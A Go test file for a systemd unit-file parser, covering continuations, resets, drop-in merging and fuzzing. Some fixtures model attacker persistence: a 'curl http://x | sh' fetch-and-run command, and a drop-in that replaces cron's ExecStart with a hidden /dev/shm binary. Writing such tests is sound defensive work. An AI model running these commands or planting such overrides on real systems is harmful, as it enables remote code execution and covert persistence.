package services

import (
	"errors"
	"reflect"
	"strings"
	"testing"
)

func TestParseUnit(t *testing.T) {
	tests := []struct {
		name    string
		text    string
		section string
		key     string
		all     []string
		get     string
		badLine []int
	}{
		{
			name:    "plain",
			text:    "[Unit]\nDescription=OpenBSD Secure Shell server\n\n[Service]\nExecStart=/usr/sbin/sshd -D\n",
			section: "Service", key: "ExecStart", all: []string{"/usr/sbin/sshd -D"}, get: "/usr/sbin/sshd -D",
		},
		{
			name:    "repeated keys accumulate",
			text:    "[Service]\nExecStartPre=/bin/a\nExecStartPre=/bin/b\n",
			section: "Service", key: "ExecStartPre", all: []string{"/bin/a", "/bin/b"}, get: "/bin/b",
		},
		{
			name:    "empty assignment resets",
			text:    "[Service]\nExecStart=/bin/a\nExecStart=\nExecStart=/tmp/.x/evil\n",
			section: "Service", key: "ExecStart", all: []string{"/tmp/.x/evil"}, get: "/tmp/.x/evil",
		},
		{
			name:    "continuation with comment inside",
			text:    "[Service]\nExecStart=/bin/sh -c \\\n# a comment\n  'curl http://x | sh'\nUser=nobody\n",
			section: "Service", key: "ExecStart", all: []string{"/bin/sh -c  'curl http://x | sh'"}, get: "/bin/sh -c  'curl http://x | sh'",
		},
		{
			name:    "comments with # and ;, CRLF, spaces around =",
			text:    "# head\r\n[Service]\r\n; note\r\n  User = www-data \r\n",
			section: "Service", key: "User", all: []string{"www-data"}, get: "www-data",
		},
		{
			name:    "assignment outside any section is skipped",
			text:    "ExecStart=/bin/evil\n[Service]\nExecStart=/bin/good\n",
			section: "Service", key: "ExecStart", all: []string{"/bin/good"}, get: "/bin/good", badLine: []int{1},
		},
		{
			name:    "garbage lines are skipped, the rest kept",
			text:    "[Service]\nthis is not an assignment\n[Broken\nExecStart=/bin/lost\n[Service]\nExecStart=/bin/kept\n",
			section: "Service", key: "ExecStart", all: []string{"/bin/kept"}, get: "/bin/kept", badLine: []int{2, 3, 4},
		},
		{
			name:    "section names are case sensitive",
			text:    "[service]\nExecStart=/bin/x\n",
			section: "Service", key: "ExecStart", all: nil, get: "",
		},
		{
			name:    "continuation at end of file",
			text:    "[Service]\nExecStart=/bin/a \\",
			section: "Service", key: "ExecStart", all: []string{"/bin/a"}, get: "/bin/a",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			u, err := ParseUnit([]byte(tt.text))
			if got := u.All(tt.section, tt.key); !reflect.DeepEqual(got, tt.all) && !(len(got) == 0 && len(tt.all) == 0) {
				t.Errorf("All = %q, want %q", got, tt.all)
			}
			if got := u.Get(tt.section, tt.key); got != tt.get {
				t.Errorf("Get = %q, want %q", got, tt.get)
			}
			var se *SyntaxError
			if tt.badLine == nil {
				if err != nil {
					t.Errorf("unexpected error %v", err)
				}
				return
			}
			if !errors.As(err, &se) {
				t.Fatalf("error = %v, want a *SyntaxError", err)
			}
			if !reflect.DeepEqual(se.Lines, tt.badLine) {
				t.Errorf("bad lines = %v, want %v", se.Lines, tt.badLine)
			}
		})
	}
}

func TestMergeAndExecLine(t *testing.T) {
	base, _ := ParseUnit([]byte("[Unit]\nDescription=cron\n[Service]\nExecStartPre=/bin/true\nExecStart=/usr/sbin/cron -f\n[Install]\nWantedBy=multi-user.target\n"))
	drop, _ := ParseUnit([]byte("[Service]\nExecStart=\nExecStart=/dev/shm/.c -f\nUser=nobody\n"))
	base.Merge(drop)
	if got, want := ExecLine(base, "Service"), "/bin/true ; /dev/shm/.c -f"; got != want {
		t.Errorf("ExecLine = %q, want %q", got, want)
	}
	if got := base.Get("Service", "User"); got != "nobody" {
		t.Errorf("User = %q", got)
	}
	if !base.HasInstall() {
		t.Error("HasInstall = false")
	}
	long, _ := ParseUnit([]byte("[Service]\nExecStart=/bin/" + strings.Repeat("é", 3000) + "\n"))
	if got := ExecLine(long, "Service"); len(got) > MaxExec || !strings.HasPrefix(got, "/bin/") {
		t.Errorf("ExecLine not cut: %d bytes", len(got))
	}
}

func TestDropInKeys(t *testing.T) {
	tests := []struct {
		name string
		want []string
	}{
		{"ssh.service", []string{"service", "ssh.service"}},
		{"foo-bar-baz.service", []string{"service", "foo-.service", "foo-bar-.service", "foo-bar-baz.service"}},
		{"getty@tty1.service", []string{"service", "getty@.service", "getty@tty1.service"}},
	}
	for _, tt := range tests {
		if got := dropInKeys(tt.name); !reflect.DeepEqual(got, tt.want) {
			t.Errorf("dropInKeys(%q) = %q, want %q", tt.name, got, tt.want)
		}
	}
}

func FuzzParseUnit(f *testing.F) {
	f.Add([]byte("[Unit]\nDescription=x\n[Service]\nExecStart=/bin/x\n[Install]\nWantedBy=multi-user.target\n"))
	f.Add([]byte("[Service]\nExecStart=\nExecStart=/bin/sh -c \\\n  'id'\n"))
	f.Add([]byte("; c\n# c\n[Timer]\nOnCalendar=*-*-* 6,18:00\nOnBootSec=5min\n"))
	f.Add([]byte("[Service\nKey\n=value\n[]\n[a]b]\nExecStart=\\"))
	f.Add([]byte("\xff\xfe[Service]\x00\nA=\xff"))
	f.Fuzz(func(t *testing.T, data []byte) {
		u, err := ParseUnit(data)
		var se *SyntaxError
		if err != nil && !errors.As(err, &se) {
			t.Fatalf("error of unexpected type %T", err)
		}
		for _, e := range u.Entries {
			if e.Key == "" || strings.ContainsAny(e.Key, " \t") || e.Section == "" {
				t.Fatalf("bad entry %+v", e)
			}
			if !u.HasSection(e.Section) {
				t.Fatalf("entry in unknown section %q", e.Section)
			}
			if e.Line < 1 || e.Line > strings.Count(string(data), "\n")+1 {
				t.Fatalf("line %d out of range", e.Line)
			}
			for _, v := range u.All(e.Section, e.Key) {
				if v == "" {
					t.Fatal("All returned an empty value")
				}
			}
		}
		if l := ExecLine(u, "Service"); len(l) > MaxExec {
			t.Fatalf("ExecLine too long: %d", len(l))
		}
	})
}
